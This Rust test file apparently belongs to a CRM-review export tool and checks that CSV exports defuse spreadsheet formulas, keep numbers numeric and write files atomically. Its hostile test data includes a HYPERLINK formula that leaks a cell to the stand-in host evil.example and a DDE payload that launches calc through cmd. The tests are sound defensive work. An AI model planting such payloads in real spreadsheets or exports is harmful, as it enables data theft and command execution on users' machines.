//! Safe output: no cell a spreadsheet would run as a formula, numbers left numbers, files that
//! Python's csv reads back to the same values, and files written whole or not at all — never
//! over an existing one without `--force`.

mod common;

use std::io::Write;
use std::path::Path;

use common::{Desk, Verdict, python_csv};
use okk::export::ExportError;
use okk::export::file::write_atomically;

const AT: &str = "2026-11-20 12:00:00";

/// Hostile values as CRM data and auditors may bring them, each with what the file must hold.
const HOSTILE: [(&str, &str); 7] = [
    (
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    ),
    ("+7 (999) 123-45-67", "'+7 (999) 123-45-67"),
    (
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    ("-2+3", "'-2+3"),
    ("\tcmd", "'\tcmd"),
    ("\r=1+1", "'\r=1+1"),
    // Not dangerous, but everything a CSV writer can get wrong at once.
    (
        "строка, «кавычки» \"двойные\"; точка с запятой\r\nвторая строка\nтретья 👍",
        "строка, «кавычки» \"двойные\"; точка с запятой\r\nвторая строка\nтретья 👍",
    ),
];

const CARDS: [&str; 7] = [
    "31999149", "31973177", "31957017", "31898005", "31874040", "31801109", "31793085",
];

/// Every hostile value in a title (CRM data), a comment and a suggested owner (the auditor's),
/// and the note the lead sent the review back with (the lead's).
fn hostile_desk() -> Desk {
    let desk = Desk::demo();
    for (card, (value, _)) in CARDS.iter().zip(HOSTILE) {
        desk.plant_card(card, "title", value);
        let review = desk.review(
            card,
            "anna",
            AT,
            &Verdict {
                owner: Some(value),
                comment: value,
                answers: &[("next_step", "fail")],
                ..Verdict::of("stale")
            },
        );
        desk.send_back(&review, "olga", value, "2026-11-20 13:00:00");
    }
    desk
}

fn export_reviews(desk: &Desk, delimiter: &str) -> Vec<Vec<String>> {
    let out = desk.file(&format!("reviews{delimiter}.csv"));
    desk.run_ok(&[
        "export",
        "reviews",
        "--out",
        &out,
        "--delimiter",
        delimiter,
        "--bom",
    ]);
    python_csv(&out, delimiter.chars().next().unwrap())
}

#[test]
fn formula_cells_are_neutralised_and_read_back_by_python_unchanged_otherwise() {
    let desk = hostile_desk();
    for delimiter in [",", ";"] {
        let rows = export_reviews(&desk, delimiter);
        let header = &rows[0];
        let col = |name: &str| header.iter().position(|h| h == name).unwrap();
        assert_eq!(rows.len(), 1 + HOSTILE.len());
        for row in &rows[1..] {
            assert_eq!(row.len(), header.len(), "{row:?}");
            let card = CARDS.iter().position(|c| *c == row[col("external_id")]);
            let (_, written) = HOSTILE[card.expect("a hostile card")];
            for column in ["title", "comment", "suggested_owner", "lead_note"] {
                assert_eq!(row[col(column)], written, "{column} of {delimiter:?}");
            }
            // Number columns stay bare numbers, however the text around them looks.
            let seconds = if delimiter == ";" { "42,3" } else { "42.3" };
            assert_eq!(row[col("seconds_spent")], seconds);
            let score = &row[col("score")];
            assert!(score.is_empty() || score == "0", "{score:?}");
        }
    }
}

#[test]
fn numbers_stay_numbers_in_a_crm_file_and_text_that_looks_like_one_is_defused() {
    let desk = Desk::demo();
    desk.review(
        "31999149",
        "anna",
        AT,
        &Verdict {
            corrections: &[
                ("amount", "-500"),
                ("title", "-2+3"),
                ("Интересующие параметры", "=HYPERLINK(\"http://x\")"),
                ("tags", "@SUM(A1)"),
            ],
            ..Verdict::of("stale")
        },
    );
    desk.review(
        "31973177",
        "anna",
        AT,
        &Verdict {
            // Not a number: written as text, so defused, and reported.
            corrections: &[("amount", "+7 (999) 123-45-67")],
            ..Verdict::of("stale")
        },
    );
    let out = desk.file("amocrm.csv");
    let run = desk
        .okk()
        .args(["export", "crm", "--profile", "amocrm", "--out", &out])
        .output()
        .unwrap();
    assert!(run.status.success());
    assert!(
        String::from_utf8_lossy(&run.stderr).contains("is not a number: written as text"),
        "{}",
        String::from_utf8_lossy(&run.stderr)
    );
    let rows = python_csv(&out, ',');
    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
    let card = |id: &str| rows.iter().find(|r| r[0] == id).unwrap();
    let first = card("31999149");
    assert_eq!(first[col("Бюджет")], "-500");
    assert_eq!(first[col("Название сделки")], "'-2+3");
    assert_eq!(first[col("Теги")], "'@SUM(A1)");
    assert_eq!(
        first[col("Интересующие параметры")],
        "'=HYPERLINK(\"http://x\")"
    );
    assert_eq!(card("31973177")[col("Бюджет")], "'+7 (999) 123-45-67");
}

#[test]
fn an_existing_file_is_kept_without_force_and_replaced_with_it() {
    let desk = Desk::demo();
    desk.review("31999149", "anna", AT, &Verdict::of("dead"));
    for command in [&["reviews"][..], &["crm", "--profile", "amocrm"]] {
        let out = desk.file("keep.csv");
        std::fs::write(&out, "the lead's own notes\n").unwrap();
        let args = [&["export"][..], command, &["--out", &out]].concat();
        let refused = desk.okk().args(&args).output().unwrap();
        assert_eq!(refused.status.code(), Some(1), "{command:?}");
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert!(stderr.contains("the file exists; pass --force"), "{stderr}");
        assert_eq!(
            std::fs::read_to_string(&out).unwrap(),
            "the lead's own notes\n"
        );
        desk.run_ok(&[&args[..], &["--force"]].concat());
        assert_ne!(
            std::fs::read_to_string(&out).unwrap(),
            "the lead's own notes\n"
        );
        assert_eq!(leftovers(desk.dir.path()), Vec::<String>::new());
    }
}

#[test]
fn an_unwritable_target_fails_cleanly() {
    let desk = Desk::demo();
    let out = desk.file("no/such/dir/reviews.csv");
    let run = desk
        .okk()
        .args(["export", "reviews", "--out", &out])
        .output()
        .unwrap();
    assert_eq!(run.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&run.stderr);
    assert!(stderr.contains("cannot write the export"), "{stderr}");
    assert!(!Path::new(&out).exists());
}

/// Temp files an export left behind in `dir`.
fn leftovers(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.ends_with(".part"))
        .collect()
}

fn failing(out: &mut std::io::BufWriter<std::fs::File>) -> Result<(), ExportError> {
    out.write_all(b"review_id,source\r\nhalf a ro").unwrap();
    out.flush().unwrap();
    Err(ExportError::Io {
        path: "target".into(),
        source: std::io::Error::other("the disk is full"),
    })
}

#[test]
fn a_write_that_fails_halfway_leaves_no_file_and_no_temp_file() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("reviews.csv");
    let err = write_atomically(&target, false, failing).unwrap_err();
    assert!(err.to_string().contains("the disk is full"), "{err}");
    assert!(!target.exists());
    assert_eq!(leftovers(dir.path()), Vec::<String>::new());
}

#[test]
fn a_forced_write_that_fails_halfway_leaves_the_old_file_whole() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("reviews.csv");
    std::fs::write(&target, "last week's export\r\n").unwrap();
    assert!(write_atomically(&target, true, failing).is_err());
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "last week's export\r\n"
    );
    // A writer that panics (a bug) unwinds through the temp file too.
    let panicked = std::panic::catch_unwind(|| {
        let _ = write_atomically(&target, true, |out| {
            out.write_all(b"half").unwrap();
            panic!("a bug in the middle of an export");
        });
    });
    assert!(panicked.is_err());
    assert_eq!(
        std::fs::read_to_string(&target).unwrap(),
        "last week's export\r\n"
    );
    assert_eq!(leftovers(dir.path()), Vec::<String>::new());
}
